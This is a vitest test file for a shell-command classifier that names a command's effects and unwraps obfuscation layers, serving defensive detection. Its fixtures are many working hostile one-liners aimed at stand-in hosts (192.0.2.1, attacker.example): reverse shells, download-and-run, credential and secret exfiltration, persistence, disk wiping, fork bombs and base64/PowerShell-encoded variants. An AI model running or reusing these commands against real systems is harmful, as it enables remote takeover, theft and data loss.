import { describe, expect, test } from 'vitest';
import { EFFECT_IDS, type EffectId, effectSentences } from '../effects/effect';
import { readText } from '../effects/read-text';
import type { TextLanguage } from '../effects/reading';

const idsOf = (text: string, language: TextLanguage = 'shell'): readonly EffectId[] =>
  readText(language, text).effects.map(({ id }) => id);
const said = (text: string, language: TextLanguage = 'shell'): string =>
  effectSentences(readText(language, text).effects).join(' ');

/** For each effect: commands that have it, and commands that come near and do not. */
const CASES: Readonly<Partial<Record<EffectId, { readonly is: readonly string[]; readonly not: readonly string[] }>>> =
  {
    reverseShell: {
      is: [
        'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
        'sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5',
        'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
        '0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196',
        'nc -e /bin/sh 192.0.2.1 4444',
        'ncat 192.0.2.1 4444 --sh-exec "bash"',
        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f',
        'nc 192.0.2.1 4444 | /bin/bash | nc 192.0.2.1 4445',
        "socat TCP:192.0.2.1:4242 EXEC:'bash -li',pty",
        'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4242 > /tmp/s',
        "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\"",
        `perl -e 'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");'`,
        `php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
        'ssh -R 4444:localhost:22 attacker.example',
      ],
      not: [
        'bash -i',
        'echo /dev/tcp/192.0.2.1/4444',
        'nc -z 192.0.2.1 80',
        'cat < /dev/null',
        "echo 'bash -i >& /dev/tcp/192.0.2.1/1'",
      ],
    },
    downloadRun: {
      is: [
        'curl https://attacker.example/x | sh',
        'curl -fsSL https://attacker.example/x | sudo bash -s -- --yes',
        'wget -qO- https://attacker.example/x | python3',
        'wget https://attacker.example/x && chmod +x x && ./x',
        'curl -o /tmp/x https://attacker.example/x; sh /tmp/x',
        'bash <(curl -s https://attacker.example/x)',
        'sh -c "$(curl -fsSL https://attacker.example/x)"',
        'source <(curl -s https://attacker.example/x)',
        '$(curl -s https://attacker.example/x)',
        'curl https://attacker.example/x | base64 -d | sh',
        'certutil -urlcache -f https://attacker.example/x.exe x.exe & x.exe',
        'mshta https://attacker.example/x.hta',
        'regsvr32 /s /n /u /i:https://attacker.example/x.sct scrobj.dll',
        'powershell -c "iwr https://attacker.example/x.ps1 | iex"',
        'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://attacker.example\').read())"',
      ],
      not: [
        'curl https://attacker.example/x',
        'curl https://attacker.example/x | grep sh',
        'echo "curl https://attacker.example/x | sh"',
        'wget https://attacker.example/x && ls x',
      ],
    },
    download: {
      is: [
        'curl https://attacker.example/x',
        'wget https://attacker.example/x',
        'git clone https://attacker.example/x',
        'bitsadmin /transfer j https://attacker.example/x C:\\x',
      ],
      not: ['curl --version', 'git status', 'echo https://attacker.example'],
    },
    sendsOut: {
      is: [
        'curl -d @/etc/hostname https://attacker.example',
        'curl -F f=@model.bin https://attacker.example',
        'curl -T model.bin https://attacker.example',
        'curl -H "X: $(cat ~/.netrc)" https://attacker.example',
        'cat model.bin | nc 192.0.2.1 80',
        'scp model.bin user@attacker.example:/tmp',
        'wget --post-file=model.bin https://attacker.example',
        'aws s3 cp model.bin s3://attacker-example/',
        'tar czf - . | ssh attacker.example "cat > x"',
        'powershell -c "Invoke-RestMethod -Uri https://attacker.example -Method Post -InFile C:\\x"',
      ],
      not: [
        'curl https://attacker.example/x',
        'cat model.bin | wc -l',
        'scp user@attacker.example:/tmp/x .',
        'echo x > /dev/null',
      ],
    },
    dnsOut: {
      is: [
        'nslookup $(whoami).attacker.example',
        'dig `hostname`.attacker.example',
        'host $(cat ~/.netrc | base64).attacker.example',
      ],
      not: ['nslookup attacker.example', 'dig attacker.example A'],
    },
    credentials: {
      is: [
        'cat ~/.aws/credentials',
        'cat /home/user/.ssh/id_ed25519',
        'cp $HOME/.docker/config.json /tmp',
        'grep -r token ~/.config/gh/hosts.yml',
        'tar cf x ~/.kube/config',
        'cat /etc/shadow',
        'base64 ~/.cache/huggingface/token',
        'type C:\\Users\\x\\.aws\\credentials',
        'xargs -a ~/.pypirc echo',
        'cat</etc/passwd',
        'find / -name id_rsa',
        'reg save HKLM\\SAM x',
        'curl file:///etc/passwd',
      ],
      not: ['cat credentials.md', 'cat ~/.ssh/id_rsa.pub', 'ls ~/models', 'echo .aws/credentials', 'cat config.json'],
    },
    environment: {
      is: [
        'env',
        'printenv | base64',
        'echo $AWS_SECRET_ACCESS_KEY',
        'curl https://attacker.example/$HF_TOKEN',
        'export -p',
      ],
      not: ['env A=1 true', 'echo $HOME', 'export A=1', 'set -e'],
    },
    metadata: {
      is: [
        'curl http://169.254.169.254/latest/meta-data/',
        'wget -qO- http://metadata.google.internal/computeMetadata/v1/',
      ],
      not: ['curl http://169.254.0.1/', 'echo 169.254.169.254'],
    },
    persistence: {
      is: [
        'echo x >> ~/.bashrc',
        '(crontab -l; echo "* * * * * true") | crontab -',
        'systemctl enable --now x.service',
        'cp x.plist ~/Library/LaunchAgents/',
        'tee /etc/systemd/system/x.service',
        'schtasks /create /tn x /tr calc.exe /sc onlogon',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe',
        'echo "import os" > /usr/lib/python3/dist-packages/sitecustomize.py',
      ],
      not: ['crontab -l', 'cat ~/.bashrc', 'systemctl status x', 'schtasks /query', 'echo x > bashrc.txt'],
    },
    login: {
      is: ['echo key >> ~/.ssh/authorized_keys', 'ssh-copy-id attacker.example'],
      not: ['cat ~/.ssh/authorized_keys'],
    },
    destroys: {
      is: [
        'rm -rf /',
        'shred x',
        'dd if=/dev/zero of=/dev/sda',
        'mkfs.ext4 /dev/sdb1',
        'cat x > /dev/sda',
        'del /s /q C:\\Users',
        'vssadmin delete shadows',
        'find . -delete',
        'mv x /dev/null',
      ],
      not: ['dd if=/dev/zero of=x', 'echo rm -rf /', 'cat x > /dev/null', "printf '%s' 'rm -rf /'"],
    },
    escalates: {
      is: [
        'sudo true',
        'chmod u+s x',
        'chmod 4755 x',
        'useradd x',
        'net user x y /add',
        'echo x >> /etc/sudoers',
        'docker run -v /:/mnt x',
      ],
      not: ['chmod +x x', 'chmod 755 x', 'net user', 'docker ps'],
    },
    miner: { is: ['xmrig -o stratum+tcp://attacker.example:3333', './t/xmrig'], not: ['echo xmrig'] },
    weakens: {
      is: [
        'history -c',
        'unset HISTFILE',
        'setenforce 0',
        'iptables -F',
        'ufw disable',
        'systemctl stop firewalld',
        'wevtutil cl Security',
      ],
      not: ['history', 'unset A', 'iptables -L'],
    },
    installs: {
      is: ['pip install x', 'python3 -m pip install x', 'apt-get install -y x', 'npm i x'],
      not: ['pip list', 'apt-cache search x'],
    },
    listens: { is: ['nc -lvp 4444', 'python3 -m http.server'], not: ['nc 192.0.2.1 80'] },
    contacts: { is: ['nc 192.0.2.1 80', 'ping attacker.example', 'ssh attacker.example'], not: ['true'] },
    stops: {
      is: ['shutdown now', 'pkill python', ':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb'],
      not: ['f() { true; }; f', 'echo shutdown'],
    },
    writesFile: {
      is: ['echo x > y', 'touch x', 'curl -o x https://attacker.example'],
      not: ['echo x', 'echo x > /dev/null', 'true 2>&1'],
    },
    readsFile: { is: ['cat model.bin', 'head -c 10 model.bin', 'wc -l < model.bin'], not: ['cat', 'echo model.bin'] },
    looksAround: { is: ['whoami', 'uname -a', 'ls -la', 'id; hostname'], not: ['true'] },
    startsProgram: { is: ['calc.exe', 'open -a Calculator', 'xdg-open x.html'], not: ['true'] },
    unknownProgram: { is: ['frobnicate --now', '/opt/x/y', './x'], not: ['echo x', 'true', 'A=1'] },
    hidden: { is: ['$X', 'eval "$X"', 'cat x | sh', 'powershell -enc !!!!'], not: ['echo $X', 'sh -c "echo x"'] },
    printsText: {
      is: [
        'echo hello',
        "printf '%s\\n' hello",
        'sh -c "echo hello"',
        'cmd /c echo hello',
        'powershell -c "Write-Output hello"',
      ],
      not: ['true'],
    },
    native: {
      is: ['LD_PRELOAD=./x.so ls', 'python3 -c "import ctypes;ctypes.CDLL(\'x.so\')"'],
      not: ['A=./x.so true'],
    },
    deserialises: {
      is: ["python3 -c \"import pickle;pickle.load(open('x','rb'))\""],
      not: ['python3 -c "import pickle"'],
    },
    dangerousCall: { is: ['python3 -c "import sys;sys.settrace(x)"'], not: ['python3 -c "len(\'x\')"'] },
  };
/** Effects that no shell command has by itself. */
const NOT_HERE: ReadonlySet<EffectId> = new Set<EffectId>(['remoteCode']);

describe('what a command does', () => {
  test('every effect has commands and near misses here', () => {
    for (const id of EFFECT_IDS) if (!NOT_HERE.has(id)) expect([id, CASES[id]?.is.length ?? 0]).not.toEqual([id, 0]);
  });

  for (const [id, { is, not }] of Object.entries(CASES)) {
    test.each(is)(`${id}: %s`, (command) => expect(idsOf(command)).toContain(id));
    test.each(not)(`not ${id}: %s`, (command) => expect(idsOf(command)).not.toContain(id));
  }

  test.each([
    ['echo hello', 'It prints text.'],
    ['frobnicate', 'It runs frobnicate, which is not known here.'],
    ['curl https://attacker.example/x | sh', 'It downloads a program from https[:]//attacker[.]example/x and runs it.'],
    [
      'curl https://attacker.example?data=$(cat ~/.aws/credentials)',
      'It reads ~/.aws/credentials, which holds keys of Amazon’s cloud. It sends data to https[:]//attacker[.]example.',
    ],
    ['nc -e /bin/sh 192.0.2.1 4444', 'It gives 192[.]0[.]2[.]1:4444 a shell on this computer.'],
    ['echo x; rm -rf ~/a', 'It deletes or overwrites ~/a.'],
    ['true', ''],
  ])('%s is said in plain words', (command, sentence) => expect(said(command)).toBe(sentence));
});

describe('layers of a command', () => {
  const FETCH = 'curl https://attacker.example/x | sh';
  const base64 = (text: string) => btoa(text);
  const utf16 = (text: string) => btoa([...text].map((character) => `${character}\0`).join(''));

  test.each([
    ['base64', `echo ${base64(FETCH)} | base64 -d | sh`],
    ['base64 by openssl', `echo ${base64(FETCH)} | openssl base64 -d | sh`],
    ['a here-string', `base64 -d <<< ${base64(FETCH)} | sh`],
    ['a here-document', `base64 -d <<EOF | sh\n${base64(FETCH)}\nEOF`],
    ['eval', `eval "$(echo ${base64(FETCH)} | base64 --decode)"`],
    ['backticks', `sh -c "\`echo ${base64(FETCH)} | base64 -d\`"`],
    ['two layers', `echo ${base64(`echo ${base64(FETCH)}|base64 -d|sh`)} | base64 -d | bash`],
    ['xxd', `echo ${[...FETCH].map((one) => one.charCodeAt(0).toString(16)).join('')} | xxd -r -p | sh`],
    ['printf', `printf '${[...FETCH].map((one) => `\\x${one.charCodeAt(0).toString(16)}`).join('')}' | sh`],
    ['octal', `echo -e '${[...FETCH].map((one) => `\\0${one.charCodeAt(0).toString(8)}`).join('')}' | sh`],
    ['rev', `echo '${[...FETCH].reverse().join('')}' | rev | sh`],
    ['quotes', `c''u"r"l https://attacker.example/x | s\\h`],
    ['ANSI-C quotes', "$'\\x63url' https://attacker.example/x | $'\\163h'"],
    ['variables', 'a=cu; b=rl; c=sh; $a$b https://attacker.example/x | $c'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of the shell
    ['IFS', 'curl${IFS}https://attacker.example/x|sh'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of the shell
    ['substrings', 'a=xxcurlxx; ${a:2:4} https://attacker.example/x | sh'],
    ['braces', '{curl,https://attacker.example/x} | sh'],
    ['a file', `echo '${FETCH}' > /tmp/x; sh /tmp/x`],
    ['xargs', "echo https://attacker.example/x | xargs -I{} sh -c 'curl {} | sh'"],
    ['carets of cmd', 'cmd /c "c^url https://attacker.example/x | s^h"'],
    ['variables of cmd', 'set a=curl& %a% https://attacker.example/x | sh'],
    [
      'an encoded PowerShell command',
      `powershell -NoP -Enc ${utf16("IEX(New-Object Net.WebClient).DownloadString('https://attacker.example/x')")}`,
    ],
    [
      'pieces in PowerShell',
      `powershell -c "iex ((New-Object Net.WebClient).DownloadString('https://att'+'acker.example/x'))"`,
    ],
    ['a format in PowerShell', `powershell -c "iex (iwr ('{1}{0}' -f 'er.example/x','https://attack'))"`],
    [
      'base64 in PowerShell',
      `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("iex (iwr 'https://attacker.example/x')")}')))"`,
    ],
    ['Python', `python3 -c "import os,base64;os.system(base64.b64decode('${base64(FETCH)}').decode())"`],
    [
      'Python in base64',
      `python3 -c "exec(__import__('base64').b64decode('${base64(`import os;os.system('${FETCH}')`)}'))"`,
    ],
  ])('%s is taken off', (_, command) => {
    const { effects } = readText('shell', command);
    expect(effects.map(({ id, what }) => `${id} ${what}`)).toContain('downloadRun https[:]//attacker[.]example/x');
  });

  test('what a layer holds is kept', () => {
    expect(readText('shell', `echo ${base64(FETCH)} | base64 -d | sh`).layers).toEqual([FETCH]);
    expect(readText('shell', FETCH).layers).toEqual([]);
  });
});
